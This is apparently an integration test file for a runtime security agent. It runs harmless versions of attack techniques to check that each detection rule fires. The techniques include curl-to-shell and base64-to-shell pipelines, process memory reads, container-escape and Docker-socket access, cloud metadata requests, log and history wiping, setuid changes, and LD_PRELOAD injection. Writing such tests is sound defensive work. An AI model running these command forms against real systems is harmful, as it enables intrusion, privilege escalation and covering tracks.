            "read-process-memory-file",
            "sh -c 'sleep 5 & dd if=/proc/$!/mem bs=1 count=0 status=none; kill $!'",
        )
        .child()
        .exe("/usr/bin/dd"),
        Case::new(
            "read-process-maps-by-tool",
            format!("cat /proc/{nopid}/maps"),
        )
        .exe("/usr/bin/cat"),
        Case::new("debugger-attached-to-process", format!("strace -p {nopid}"))
            .exe("/usr/bin/strace")
            .needs("/usr/bin/strace", "strace"),
        Case::new(
            "process-memory-dump-tool",
            format!("dd if=/proc/{nopid}/mem bs=1 count=0 status=none"),
        )
        .exe("/usr/bin/dd"),
        Case::new("nsenter-into-init-namespaces", "nsenter -t 1 --help")
            .exe("/usr/bin/nsenter")
            .needs("/usr/bin/nsenter", "util-linux"),
        Case::new(
            "unshare-user-namespace-by-user",
            "setpriv --reuid=65534 --regid=65534 --clear-groups unshare -r --help",
        )
        .exe("/usr/bin/unshare")
        .needs("/usr/bin/setpriv", "util-linux"),
        Case::new(
            "mount-host-device-in-container",
            "mount --help /dev/sda1 /mnt",
        )
        .in_container()
        .exe("/usr/bin/mount"),
        Case::new(
            "write-kernel-escape-hook",
            "sh -c ': >> /proc/sys/kernel/core_pattern'",
        )
        .exe("/bin/sh")
        .path("/proc/sys/kernel/core_pattern"),
        Case::new("container-runtime-socket-by-tool", socket_curl.clone())
            .exe("/usr/bin/curl")
            .needs("/usr/bin/curl", "curl"),
        Case::new("container-runtime-socket-in-container", socket_curl)
            .in_container()
            .exe("/usr/bin/curl")
            .needs("/usr/bin/curl", "curl"),
        Case::new(
            "container-runtime-socket-opened",
            format!("cat {}", s(crio)),
        )
        .exe("/usr/bin/cat")
        .path(s(crio)),
        Case::new("kernel-module-insert", "insmod /nonexistent/rasp-test.ko")
            .exe("/usr/bin/kmod")
            .needs("/usr/sbin/insmod", "kmod"),
        Case::new("kernel-module-remove", "rmmod rasp_test_absent_module")
            .exe("/usr/bin/kmod")
            .needs("/usr/sbin/rmmod", "kmod"),
        // The firewall flushed and switched off for real, inside a network namespace of
        // its own (the host's rules are untouched).
        Case::new("firewall-rules-flushed", "unshare -n iptables -F")
            .exe("/usr/sbin/xtables-nft-multi")
            .needs("/usr/sbin/iptables", "iptables"),
        Case::new("security-service-disabled", "unshare -n nft flush ruleset")
            .exe("/usr/sbin/nft")
            .needs("/usr/sbin/nft", "nftables"),
        Case::new(
            "immutable-attribute-changed",
            format!("chattr -i {}", s(&attr_file)),
        )
        .exe("/usr/bin/chattr")
        .needs("/usr/bin/chattr", "e2fsprogs"),
    ];
    cases.extend(hook_cases(fx, &home));
    cases
}

/// The path of the `rasp-technique` helper this crate builds.
fn technique_bin() -> String {
    env!("CARGO_BIN_EXE_rasp-technique").to_string()
}

const PYTHON: &str = "/usr/bin/python3";

/// The cases of the rules on the issue-19 hooks: each does the system call itself (from a
/// Python one-liner, sed, ln, nsenter, mount, the rasp-technique helper), harmlessly:
/// scratch files, modes and attributes on copies, memory written back unchanged, mounts
/// in a private mount namespace, a loop device over a scratch image, refused connects.
fn hook_cases(fx: &mut Fixtures, home: &Path) -> Vec<Case> {
    let s = Fixtures::s;
    let tech = technique_bin();
    let copy = fx.scratch.copy("/bin/true", fx.var.join("mode-copy"));
    let cap_copy = fx.scratch.copy("/bin/true", fx.var.join("cap-copy"));
    let history = fx
        .scratch
        .file(fx.var.join("home/.bash_history"), b"ls\n", 0o600);
    let xprofile = fx
        .scratch
        .file(home.join(".xprofile"), b"# rasp test\n", 0o644);
    let log = fx.scratch.file(
        PathBuf::from("/var/log").join(format!("{}.log", unique_name("rasp-test"))),
        b"a line\n",
        0o640,
    );
    let state_dir = fx.scratch.unique_dir("/var/lib/rasp");
    let state = fx
        .scratch
        .file(state_dir.join("detections.jsonl"), b"{}\n", 0o600);
    let sysbin = fx.scratch.copy(
        "/bin/true",
        PathBuf::from("/usr/local/bin").join(unique_name("rasp-test")),
    );
    let sock = s(&fx.tmp.join("docker.sock"));
    let http_port = free_loopback_port();
    let response = fx.scratch.file(
        fx.var.join("response"),
        b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\nexit 0\n",
        0o644,
    );
    // Pipelines typed in a script: the shell that reads the download has argv `sh`, and
    // the script's own command line names no pipeline.
    let fetch = fx.scratch.file(
        fx.var.join("fetch.sh"),
        format!(
            "nc -l -p {http_port} < {} > /dev/null &\nsleep 0.5\n\
             curl -s -m 5 http://127.0.0.1:{http_port}/i.sh | sh\nwait\n",
            s(&response)
        )
        .as_bytes(),
        0o644,
    );
    let decode = fx.scratch.file(
        fx.var.join("decode.sh"),
        b"echo ZXhpdCAw | base64 -d | sh\n",
        0o644,
    );
    // Substitutions typed in a script: no command line shows the download or the decoder
    // feeding the shell, only the processes do.
    let subst_port = free_loopback_port();
    let subst = fx.scratch.file(
        fx.var.join("subst.sh"),
        format!(
            "nc -l -p {subst_port} < {} > /dev/null &\nsleep 0.5\n\
             bash -c \"$(curl -s -m 5 http://127.0.0.1:{subst_port}/i.sh)\"\nwait\n",
            s(&response)
        )
        .as_bytes(),
        0o644,
    );
    let subst_decode = fx.scratch.file(
        fx.var.join("subst-decode.sh"),
        b"sh -c \"$(echo ZXhpdCAw | base64 -d)\"\n",
        0o644,
    );
    let mountpoint = fx.scratch.dir(fx.tmp.join("mnt"));
    let image = fx.var.join("disk.img");
    fx.scratch.adopt(&image);
    let image_cmd = format!(
        "sh -c 'truncate -s 4M {img} && mkfs.ext4 -q -F {img} && \
         L=$(losetup -f --show {img}) && unshare -p -f -m mount -o ro $L {mnt}; \
         losetup -d $L'",
        img = s(&image),
        mnt = s(&mountpoint)
    );
    let cgroup_name = unique_name("rasp-test");
    vec![
        Case::new("shell-reads-download", format!("sh {}", s(&fetch)))
            .descendant()
            .exe("/bin/sh")
            .needs("/usr/bin/curl", "curl")
            .needs("/usr/bin/nc", "netcat-traditional"),
        Case::new("shell-reads-decoded-payload", format!("sh {}", s(&decode)))
            .descendant()
            .exe("/bin/sh"),
        Case::new(
            "shell-runs-substituted-download",
            format!("sh {}", s(&subst)),
        )
        .descendant()
        .exe("/bin/bash")
        .needs("/usr/bin/curl", "curl")
        .needs("/usr/bin/nc", "netcat-traditional"),
        Case::new(
            "shell-runs-substituted-decoded-payload",
            format!("sh {}", s(&subst_decode)),
        )
        .descendant()
        .exe("/bin/sh"),
        // Sniffing: the sockets themselves, from a script (the tool does not matter).
        Case::new(
            "packet-socket-opened",
            format!(
                "{PYTHON} -c 'import socket; \
                 socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()'"
            ),
        )
        .exe(PYTHON),
        Case::new(
            "raw-ip-socket-opened",
            format!(
                "{PYTHON} -c 'import socket; \
                 socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP).close()'"
            ),
        )
        .exe(PYTHON),
        Case::new(
            "setuid-bit-set-by-program",
            format!(
                "{PYTHON} -c 'import os; os.chmod(\"{}\", 0o4755)'",
                s(&copy)
            ),
        )
        .exe(PYTHON)
        .path(s(&copy)),
        // A version-2 file capability: effective, CAP_NET_RAW permitted.
        Case::new(
            "file-capability-set-by-program",
            format!(
                "{PYTHON} -c 'import os; os.setxattr(\"{}\", \"security.capability\", \
                 bytes.fromhex(\"0100000200200000000000000000000000000000\"))'",
                s(&cap_copy)
            ),
        )
        .exe(PYTHON)
        .path(s(&cap_copy)),
        Case::new(
            "shell-history-removed-or-replaced",
            format!("{PYTHON} -c 'import os; os.unlink(\"{}\")'", s(&history)),
        )
        .exe(PYTHON)
        .path(s(&history)),
        Case::new(
            "log-removed-or-truncated",
            format!("{PYTHON} -c 'import os; os.truncate(\"{}\", 0)'", s(&log)),
        )
        .exe(PYTHON)
        .path(s(&log)),
        Case::new(
            "audit-or-agent-state-removed",
            format!("{PYTHON} -c 'import os; os.unlink(\"{}\")'", s(&state)),
        )
        .exe(PYTHON)
        .path(s(&state)),
        Case::new(
            "timestamp-forged-on-system-file",
            format!(
                "{PYTHON} -c 'import os; os.utime(\"{}\", (978307200, 978307200))'",
                s(&sysbin)
            ),
        )
        .exe(PYTHON)
        .path(s(&sysbin)),
        // sed -i writes a temporary file beside the original and renames it over it.
        Case::new(
            "startup-file-replaced",
            format!("sed -i '$a # rasp test' {}", s(&xprofile)),
        )
        .exe("/usr/bin/sed"),
        // The victim is the command's own `sleep`, a sibling of the helper, not its child.
        Case::new(
            "process-attached-by-non-parent",
            format!("sh -c 'sleep 5 & {tech} ptrace-poke $!; kill $!'"),
        )
        .child()
        .exe(tech.clone()),
        Case::new(
            "process-memory-written-by-non-parent",
            format!("sh -c 'sleep 5 & {tech} ptrace-poke $!; kill $!'"),
        )
        .child()
        .exe(tech.clone()),
        Case::new(
            "process-memory-read-by-non-parent",
            format!("sh -c 'sleep 5 & {tech} vm-read-write $!; kill $!'"),
        )
        .child()
        .exe(tech.clone()),
        // A new PID namespace (a container as far as the agent can tell) entering the mount
        // namespace of a host process.
        Case::new(
            "setns-into-host-namespace",
            "sh -c 'unshare -p -f nsenter --mount=/proc/$$/ns/mnt true'",
        )
        .descendant()
        .exe("/usr/bin/nsenter")
        .needs("/usr/bin/nsenter", "util-linux"),
        Case::new(
            "user-namespace-created-by-user",
            "setpriv --reuid=65534 --regid=65534 --clear-groups unshare -r true",
        )
        .exe("/usr/bin/unshare")
        .needs("/usr/bin/setpriv", "util-linux"),
        Case::new("host-device-mounted-in-container", image_cmd)
            .descendant()
            .exe("/usr/bin/mount")
            .needs("/usr/sbin/mkfs.ext4", "e2fsprogs")
            .needs("/usr/sbin/losetup", "mount"),
        Case::new(
            "cgroup-mounted-in-container",
            format!(
                "unshare -p -f -m mount -t cgroup -o none,name={cgroup_name} cgroup {}",
                s(&mountpoint)
            ),
        )
        .descendant()
        .exe("/usr/bin/mount"),
        Case::new(
            "container-runtime-socket-connected",
            format!(
                "{PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX).connect_ex(\"{sock}\")'"
            ),
        )
        .exe(PYTHON)
        .path(sock.clone()),
        Case::new(
            "container-runtime-socket-connected-in-container",
            format!(
                "{PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX).connect_ex(\"{sock}\")'"
            ),
        )
        .in_container()
        .exe(PYTHON)
        .path(sock),
        Case::new("bpf-program-loaded", format!("{tech} bpf-load")).exe(tech.clone()),
        Case::new(
            "io-uring-file-or-network-op",
            format!("{tech} io-uring-open /etc/hostname"),
        )
        .exe(tech.clone()),
        Case::new(
            "io-uring-file-or-network-op",
            format!("{tech} io-uring-connect 127.0.0.1:9"),
        )
        .exe(tech),
    ]
}

fn canonical_or_same(path: &Path) -> String {
    fs::canonicalize(path)
        .unwrap_or_else(|_| path.to_path_buf())
        .to_string_lossy()
        .into_owned()
}

/// Every library_load-rule case: LD_PRELOAD of a copied libm from a writable place.
fn library_cases(fx: &mut Fixtures) -> Vec<Case> {
    let s = Fixtures::s;
    let lib = harmless_library();
    let tmp_lib = fx.scratch.copy(lib, fx.tmp.join("librasp-test.so"));
    let shm_lib = fx.scratch.copy(lib, fx.shm.join("librasp-test.so"));
    let app = fx.scratch.copy("/bin/true", fx.opt.join("bin/app"));
    vec![
        Case::new(
            "preload-into-system-binary",
            format!("env LD_PRELOAD={} /usr/bin/true", s(&tmp_lib)),
        )
        .exe("/usr/bin/true")
        .path(s(&tmp_lib)),
        Case::new(
            "library-load-from-tmp",
            format!("env LD_PRELOAD={} {}", s(&tmp_lib), s(&app)),
        )
        .exe(s(&app))
        .path(s(&tmp_lib)),
        Case::new(
            "library-load-from-shm-or-memfd",
            format!("env LD_PRELOAD={} /usr/bin/true", s(&shm_lib)),
        )
        .exe("/usr/bin/true")
        .path(s(&shm_lib)),
    ]
}

/// Every connect-rule case. The connect attempts run in a fresh network namespace
/// (`unshare -n`: only a loopback that is down), so the kernel sees the connect() to the
/// metadata address but no packet can leave this machine.
fn connect_cases() -> Vec<Case> {
    vec![
        Case::new(
            "cloud-metadata-from-container",
            "unshare -n /usr/bin/python3 -c 'import socket; s = socket.socket(); \
             s.settimeout(1); s.connect_ex((\"169.254.169.254\", 80))'",
        )
        .in_container()
        .exe("/usr/bin/python3")
        .dest("169.254.169.254", 80)
        .needs("/usr/bin/unshare", "util-linux"),
        Case::new(
            "cloud-metadata-from-host-tool",
            "unshare -n curl -s -m 1 http://169.254.169.254/latest/meta-data/",
        )
        .exe("/usr/bin/curl")
        .dest("169.254.169.254", 80)
        .needs("/usr/bin/unshare", "util-linux")
        .needs("/usr/bin/curl", "curl"),
    ]
}

/// What a case's detection must say beyond the common fields.
fn case_problems(
    d: &Value,
    case: &Case,
    pid: u32,
    cgroup: &Cgroup,
    cid: Option<&str>,
) -> Vec<String> {
    let mut problems = Vec::new();
    match case.who {
        Who::Command => {
            if d["process"]["pid"] != json!(pid) {
                problems.push(format!(
                    "process.pid is {}, expected {pid}",
                    d["process"]["pid"]
                ));
            }
        }
        // `caused_by` already found the command in the ancestry.
        Who::Descendant => {}
        Who::ChildOf => {
            if d["ancestry"][0]["pid"] != json!(pid) {
                problems.push(format!(
                    "the parent (ancestry[0]) is {}, expected the server, pid {pid}",
                    d["ancestry"][0]
                ));
            }
        }
    }
    let exe = &d["process"]["exe"];
    let exe_ok = match &case.exe {
        Some(ExeIs::Path(p)) => *exe == json!(canonical(p)),
        Some(ExeIs::Prefix(p)) => exe.as_str().is_some_and(|e| e.starts_with(p.as_str())),
        None => true,
    };
    if !exe_ok {
        problems.push(format!("process.exe is {exe}, expected {:?}", case.exe));
    }
    if d["event"]["kind"] == "exec" && d["event"]["exe"] != d["process"]["exe"] {
        problems.push(format!(
            "event.exe {} differs from process.exe {}",
            d["event"]["exe"], d["process"]["exe"]
        ));
    }
    if let Some(path) = &case.path {
        if d["event"]["path"] != json!(path) {
            problems.push(format!(
                "event.path is {}, expected {path:?}",
                d["event"]["path"]
            ));
        }
    }
    if let Some((addr, port)) = case.dest {
        if d["event"]["addr"] != json!(addr) || d["event"]["port"] != json!(port) {
            problems.push(format!(
                "destination is {}:{}, expected {addr}:{port}",
                d["event"]["addr"], d["event"]["port"]
            ));
        }
    }
    if d["event"]["cgroup"] != json!(cgroup.path_in_hierarchy()) {
        problems.push(format!(
            "event.cgroup is {}, expected {:?}",
            d["event"]["cgroup"],
            cgroup.path_in_hierarchy()
        ));
    }
    let container_id = &d["event"]["container"]["id"];
    match cid {
        Some(id) if *container_id != json!(id) => problems.push(format!(
            "event.container.id is {container_id}, expected {id}"
        )),
        None if !container_id.is_null() => {
            problems.push(format!("event.container.id is {container_id} on the host"))
        }
        _ => {}
    }
    problems
}

/// Runs every case (detached, in its own cgroup) and checks its detection appears within
/// REPORT_DEADLINE with the right content. All cases run; the failures are reported together.
fn run_cases(agent: &Agent, cases: &[Case]) {
    let mut failures = Vec::new();
    for case in cases {
        let label = format!("`{}` by `{}`", case.rule, case.cmd);
        let absent: Vec<String> = case
            .needs
            .iter()
            .filter_map(|(program, package)| missing(program, package))
            .collect();
        if !absent.is_empty() {
            failures.push(format!("{label}: cannot run: {}", absent.join("; ")));
            continue;
        }
        let rule = shipped_rule(case.rule);
        let (cgroup, cid) = if case.container {
            let (cgroup, id) = container_cgroup();
            (cgroup, Some(id))
        } else {
            (Cgroup::new("host"), None)
        };
        let pid = spawn_detached(&case.cmd, Some(&cgroup));
        let started = Instant::now();
        let found = wait_detection(agent, &["--rule", case.rule], REPORT_DEADLINE, |d| {
            caused_by(d, pid) && d["event"]["kind"] == json!(rule.event)
        });
        match found {
            Ok(d) => {
                let mut problems = detection_problems(&d, &rule);
                problems.extend(case_problems(&d, case, pid, &cgroup, cid.as_deref()));
                for other in &case.not_rules {
                    let also = agent.detections(&["--rule", other]);
                    if also.iter().any(|o| caused_by(o, pid)) {
                        problems.push(format!("`{other}` fired as well for pid {pid}"));
                    }
                }
                if !problems.is_empty() {
                    failures.push(format!(
                        "{label} (pid {pid}): {}\n    detection: {d}",
                        problems.join("; ")
                    ));
                }
            }
            Err(received) => {
                let kind = rule.event.as_str();
                let status = agent.status();
                let events = agent.events(&["--pid", &pid.to_string()]);
                failures.push(format!(
                    "{label} (pid {pid}{}): no detection within {REPORT_DEADLINE:?} \
                     (waited {:?}); the agent has received {} {kind} events since it \
                     started; events of pid {pid}:\n{}    detections of this rule:\n{}",
                    cid.as_ref()
                        .map(|c| format!(", container {}", &c[..12]))
                        .unwrap_or_default(),
                    started.elapsed(),
                    status["events"][kind]["received"],
                    show(&events),
                    show(&received)
                ));
            }
        }
        wait_gone(pid, CHILD_DEADLINE);
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n- {}",
        failures.len(),
        cases.len(),
        failures.join("\n- ")
    );
}

fn cases_of_policy(cases: Vec<Case>, policy: &str) -> Vec<Case> {
    cases
        .into_iter()
        .filter(|c| shipped_rule(c.rule).policy == policy)
        .collect()
}

#[test]
fn every_shipped_rule_has_a_scenario() {
    require_root();
    let rules = shipped_rules();
    let validate = output_within(
        Command::new(agent_bin())
            .args(["policy", "validate", "--json"])
            .arg(workspace_root().join("policies")),
        CHILD_DEADLINE,
    )
    .expect("policy validate answers");
    let summary: Value = serde_json::from_slice(&validate.stdout)
        .unwrap_or_else(|err| panic!("validate --json ({err}): {}", text(&validate.stdout)));
    assert_eq!(
        summary["ok"],
        json!(true),
        "the shipped policies validate: {summary}"
    );
    assert_eq!(
        summary["rules"],
        json!(rules.len()),
        "the YAML scan found {} rules, the validator {}: {:?}",
        rules.len(),
        summary["rules"],
        rules.iter().map(|r| &r.id).collect::<Vec<_>>()
    );
    for r in &rules {
        assert!(
            ["info", "low", "medium", "high", "critical"].contains(&r.severity.as_str())
                && !r.event.is_empty()
                && !r.policy.is_empty()
                && r.policy_version > 0,
            "scan of {r:?}"
        );
    }

    let mut fx = Fixtures::new();
    let mut covered: BTreeSet<String> = BTreeSet::new();
    let mut cases = exec_cases(&mut fx);
    cases.extend(file_cases(&mut fx));
    cases.extend(library_cases(&mut fx));
    cases.extend(connect_cases());
    cases.extend(technique_cases(&mut fx));
    for case in &cases {
        let rule = shipped_rule(case.rule);
        covered.insert(rule.id.clone());
    }
    // `sql_query` rules need a database server: scenarios/sql.rs triggers them; `tls` and
    // `http` rules need TLS peers (and PostgreSQL): scenarios/tls.rs. Module
    // loads need a kernel with module support:
    // kernel_modules_loaded_by_a_program_are_seen_where_modules_can_load (run by
    // io_uring_modules_and_evasions_on_one_agent).
    covered.insert("kernel-module-loaded-by-program".into());
    let uncovered: Vec<&str> = rules
        .iter()
        .filter(|r| {
            !covered.contains(&r.id) && !["sql_query", "tls", "http"].contains(&r.event.as_str())
        })
        .map(|r| r.id.as_str())
        .collect();
    assert!(
        uncovered.is_empty(),
        "shipped rules without a scenario: {uncovered:?}"
    );
}

#[test]
fn suspicious_exec_rules_fire_on_real_executions() {
    require_root();
    let agent = Agent::start(&[]);
    let mut fx = Fixtures::new();
    let cases = cases_of_policy(exec_cases(&mut fx), "suspicious-exec");
    run_cases(&agent, &cases);
}

#[test]
fn reverse_shell_rules_fire_on_real_reverse_shells() {
    require_root();
    let agent = Agent::start(&[]);
    let mut fx = Fixtures::new();
    let cases = cases_of_policy(exec_cases(&mut fx), "reverse-shells");
    run_cases(&agent, &cases);
}

#[test]
fn server_shell_rules_fire_when_a_server_starts_a_shell() {
    require_root();
    let agent = Agent::start(&[]);
    let mut fx = Fixtures::new();
    let cases = cases_of_policy(exec_cases(&mut fx), "server-shells");
    run_cases(&agent, &cases);
}

#[test]
fn container_drift_rules_fire_in_containers_only() {
    require_root();
    let agent = Agent::start(&[]);
    let mut fx = Fixtures::new();
    let all = exec_cases(&mut fx);
    let in_containers: Vec<Case> = all.iter().filter(|c| c.container).cloned().collect();
    let drift = cases_of_policy(in_containers.clone(), "container-drift");
    run_cases(&agent, &drift);

    // The same commands on the host: no detection at all for them or their children.
    let mut failures = Vec::new();
    for case in &in_containers {
        if case.needs.iter().any(|(p, _)| !Path::new(p).exists()) {
            failures.push(format!("{}: cannot run, needs {:?}", case.cmd, case.needs));
            continue;
        }
        let cgroup = Cgroup::new("host");
        let pid = spawn_detached(&case.cmd, Some(&cgroup));
        let pid_arg = pid.to_string();
        let seen = wait_for(CHILD_DEADLINE, || {
            let execs = agent.events(&["--kind", "exec", "--pid", &pid_arg]);
            (!execs.is_empty()).then_some(())
        });
        if seen.is_none() {
            failures.push(format!(
                "{}: its exec (pid {pid}) never showed up",
                case.cmd
            ));
            continue;
        }
        wait_gone(pid, CHILD_DEADLINE);
        thread::sleep(REPORT_DEADLINE);
        let fired: Vec<Value> = agent
            .detections(&[])
            .into_iter()
            .filter(|d| caused_by(d, pid))
            .collect();
        if !fired.is_empty() {
            failures.push(format!(
                "`{}` on the host (pid {pid}, not in a container) was detected:\n{}",
                case.cmd,
                show(&fired)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn credential_and_system_file_rules_fire_on_real_opens() {
    require_root();
    let agent = Agent::start(&[]);
    require_hook(&agent, "file_open");
    require_hook(&agent, "file_change");
    let mut fx = Fixtures::new();
    let cases = file_cases(&mut fx);
    run_cases(&agent, &cases);
}

#[test]
fn library_load_rules_fire_on_a_real_ld_preload() {
    require_root();
    let agent = Agent::start(&[]);
    require_hook(&agent, "library_load");
    let mut fx = Fixtures::new();
    let cases = library_cases(&mut fx);
    run_cases(&agent, &cases);
}

#[test]
fn cloud_metadata_rules_fire_on_a_real_connect() {
    require_root();
    let agent = Agent::start(&[]);
    require_hook(&agent, "connect");
    run_cases(&agent, &connect_cases());
}

/// Runs the technique cases of `policy`, requiring the hook of every event kind they need.
fn run_technique_policy(policy: &str) {
    require_root();
    let agent = Agent::start(&[]);
    technique_policy_on(&agent, policy);
}

/// `run_technique_policy` on an agent already running.
fn technique_policy_on(agent: &Agent, policy: &str) {
    let mut fx = Fixtures::new();
    let cases = cases_of_policy(technique_cases(&mut fx), policy);
    assert!(!cases.is_empty(), "no cases for policy {policy}");
    let kinds: BTreeSet<String> = cases.iter().map(|c| shipped_rule(c.rule).event).collect();
    for kind in &kinds {
        require_hook(agent, kind);
    }
    run_cases(agent, &cases);
}

#[test]
fn download_execute_rules_fire_on_real_pipelines() {
    run_technique_policy("download-execute");
}

#[test]
fn user_persistence_rules_fire_on_real_startup_file_writes() {
    run_technique_policy("user-persistence");
}

#[test]
fn privilege_escalation_rules_fire_on_real_mode_changes() {
    run_technique_policy("privilege-escalation");
}

#[test]
fn defense_evasion_rules_fire_on_real_track_covering() {
    run_technique_policy("defense-evasion");
}

#[test]
fn process_memory_rules_fire_on_real_memory_access() {
    run_technique_policy("process-memory");
}

#[test]
fn exfiltration_rules_fire_on_real_transfers() {
    run_technique_policy("exfiltration");
}

#[test]
fn container_escape_rules_fire_on_real_escape_forms() {
    run_technique_policy("container-escape");
}

#[test]
fn kernel_module_rules_fire_on_real_module_tools() {
    run_technique_policy("kernel-modules");
}

/// The scenarios of the issue-19 hooks that have no policy test of their own share one
/// agent (each agent start costs seconds of program loading): io_uring submissions, packet
/// and raw sockets, a module loaded by a program, and the long-path and private-namespace
/// evasions.
#[test]
fn io_uring_modules_and_evasions_on_one_agent() {
    require_root();
    let agent = Agent::start(&[]);
    technique_policy_on(&agent, "io-uring");
    technique_policy_on(&agent, "network-sniffing");
    kernel_modules_loaded_by_a_program_are_seen_where_modules_can_load(&agent);
    long_paths_and_private_namespaces_do_not_hide_techniques(&agent);
}

/// A module file of the running kernel to load and unload again, if it has any.
fn loadable_module() -> Option<PathBuf> {
    let dir = PathBuf::from("/lib/modules")
        .join(rasp_tests::kernel_release())
        .join("kernel/drivers/net");
    ["dummy.ko", "dummy.ko.xz", "dummy.ko.zst", "dummy.ko.gz"]
        .iter()
        .map(|n| dir.join(n))
        .find(|p| p.exists())
}

/// `kernel-module-loaded-by-program`: a module loaded with finit_module(2) by a program of
/// its own. Where the kernel has no module support (no /proc/modules: this project's CI
/// kernel), nothing can be loaded and the hook has no tracepoint to attach to; the agent
/// must then say so in `status` instead of reporting the hook as working.
fn kernel_modules_loaded_by_a_program_are_seen_where_modules_can_load(agent: &Agent) {
    if !Path::new("/proc/modules").exists() {
        let status = agent.status();
        let hooks: Vec<&Value> = status["programs"]
            .as_array()
            .map(|p| {
                p.iter()
                    .filter(|p| p["name"] == "rasp_kernel_module")
                    .collect()
            })
            .unwrap_or_default();
        assert!(!hooks.is_empty(), "rasp_kernel_module is not in status");
        for h in &hooks {
            assert_eq!(h["state"], "failed", "{h}");
            let error = h["error"].as_str().unwrap_or("");
            assert!(
                error.contains("no such tracepoint") && error.contains("module"),
                "the reason must name the missing tracepoint and module support: {h}"
            );
        }
        eprintln!(
            "note: kernel {} has no module support: the load case cannot run here; the \
             agent reports why its module hook is not attached",
            rasp_tests::kernel_release()
        );
        return;
    }
    require_hook(agent, "kernel_module");
    let module = loadable_module().unwrap_or_else(|| {
        panic!("no dummy.ko of the running kernel under /lib/modules to load: install its modules package")
    });
    let case = Case::new(
        "kernel-module-loaded-by-program",
        format!("{} finit-module {}", technique_bin(), module.display()),
    )
    .exe(technique_bin());
    run_cases(agent, &[case]);
    let _ = Command::new("rmmod").arg("dummy").status();
}

// ---------------------------------------------------------------------------------------
// Evasions: what used to hide a technique from the rules.

/// A directory `depth` levels below `root`, each level named `name`.
fn nested(root: &Path, name: &str, depth: usize) -> PathBuf {
    (0..depth).fold(root.to_path_buf(), |p, _| p.join(name))
}

/// Paths too long or too deep for the kernel's path buffer keep their top components
/// (`/tmp/...`), so rules anchored there still match; padding that pushes a command past
/// the argv capture is a detection of its own (command-line-beyond-capture, in the
/// suspicious-exec cases); a new PID namespace counts as a container without a container
/// cgroup.
fn long_paths_and_private_namespaces_do_not_hide_techniques(agent: &Agent) {
    require_hook(agent, "library_load");
    let mut fx = Fixtures::new();
    let s = Fixtures::s;
    // Four 250-byte directories: 1000+ bytes, more than the 1024-byte buffer holds with
    // the file's name.
    let long = ["a", "b", "c", "d"]
        .iter()
        .fold(fx.tmp.clone(), |p, c| p.join(c.repeat(250)));
    let long_lib = fx
        .scratch
        .copy(harmless_library(), long.join("librasp-long.so"));
    let long_payload = fx.scratch.copy("/bin/true", long.join("payload-long"));
    // Sixty levels: deeper than the walk's 48 copying steps.
    let deep = nested(&fx.tmp.join("deep"), "d", 60);
    let deep_lib = fx
        .scratch
        .copy(harmless_library(), deep.join("librasp-deep.so"));
    let app = fx.scratch.copy("/bin/true", fx.opt.join("bin/app-long"));
    let cases = vec![
        Case::new(
            "library-load-from-tmp",
            format!("env LD_PRELOAD={} {}", s(&long_lib), s(&app)),
        )
        .exe(s(&app)),
        Case::new(
            "library-load-from-tmp",
            format!("env LD_PRELOAD={} {}", s(&deep_lib), s(&app)),
        )
        .exe(s(&app)),
        Case::new("exec-from-tmp", s(&long_payload)),
        // No container cgroup: a private PID namespace is what says "container".
        Case::new(
            "package-manager-in-container",
            "unshare -p -f dpkg --version",
        )
        .descendant()
        .exe("/usr/bin/dpkg"),
    ];
    run_cases(agent, &cases);

    // What the rules matched on: the top of the path, a gap, its leaf side.
    let top = s(&fx.tmp);
    let shown = |rule: &str, leaf: &str| -> Vec<String> {
        agent
            .detections(&["--rule", rule])
            .iter()
            .filter_map(|d| {
                let p = d["event"]["path"].as_str().or(d["event"]["exe"].as_str())?;
                p.ends_with(leaf).then(|| p.to_string())
            })
            .collect()
    };
    for (rule, leaf) in [
        ("library-load-from-tmp", "/librasp-long.so"),
        ("library-load-from-tmp", "/librasp-deep.so"),
        ("exec-from-tmp", "/payload-long"),
    ] {
        let paths = shown(rule, leaf);
        assert!(
            paths
                .iter()
                .any(|p| p.starts_with(&format!("{top}/")) && p.contains("/…/")),
            "{rule}: the path of {leaf} keeps its top ({top}) and marks the gap: {paths:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// A normal workload.

/// The newest PostgreSQL server's bin directory (`/usr/lib/postgresql/<major>/bin`).
fn postgres_bin() -> PathBuf {
    let root = Path::new("/usr/lib/postgresql");
    let newest = fs::read_dir(root)
        .ok()
        .into_iter()
        .flatten()
        .filter_map(|e| e.ok())
        .filter_map(|e| {
            let major: u32 = e.file_name().to_str()?.parse().ok()?;
            let bin = e.path().join("bin");
            bin.join("initdb").exists().then_some((major, bin))
        })
        .max_by_key(|(major, _)| *major);
    match newest {
        Some((_, bin)) => bin,
        None => panic!(
            "PostgreSQL server binaries not found under /usr/lib/postgresql/*/bin: install \
             the Debian package `postgresql`"
        ),
    }
}

/// What a developer's, an admin's or a database host's day looks like: file tools, git (in
/// /tmp too), python, modes and timestamps set the ordinary way, base64 decoding to a
/// file, shells reading their rc files, a C build whose result runs from /tmp and from a
/// normal directory, pytest in /tmp, sudo, a crontab edited with crontab, systemctl, a
/// package installed on the host with apt and removed, shell scripts, and a real
/// PostgreSQL (initdb, start, a query over TCP on loopback, stop). Arguments: WORK (not
/// under /tmp), TMP, PGBIN, PORT.
const WORKLOAD: &str = r#"set -eu
work="$1"; tmp="$2"; pgbin="$3"; port="$4"
cd "$work"
ls -la / > /dev/null
ps aux > /dev/null
grep -c root /etc/passwd > /dev/null
find /etc -name '*.conf' > /dev/null 2>&1 || true
git --version > /dev/null
python3 -c 'print(1)' > /dev/null
env > /dev/null
id > /dev/null
chmod 755 "$work"
touch "$tmp/stamp"
echo aGk= | base64 -d > /dev/null
python3 -c 'import base64; print(base64.b64encode(b"x"))' > /dev/null
cat "${HOME:-/root}/.bashrc" > /dev/null 2>&1 || true
systemctl --version > /dev/null 2>&1 || true
printf 'import sys\nprint(sys.argv)\n' > "$work/t.py"
python3 "$work/t.py" "$tmp" > /dev/null
git init -q "$tmp/repo" && git -C "$tmp/repo" status > /dev/null
cat /etc/hostname > /dev/null
sleep 0.1
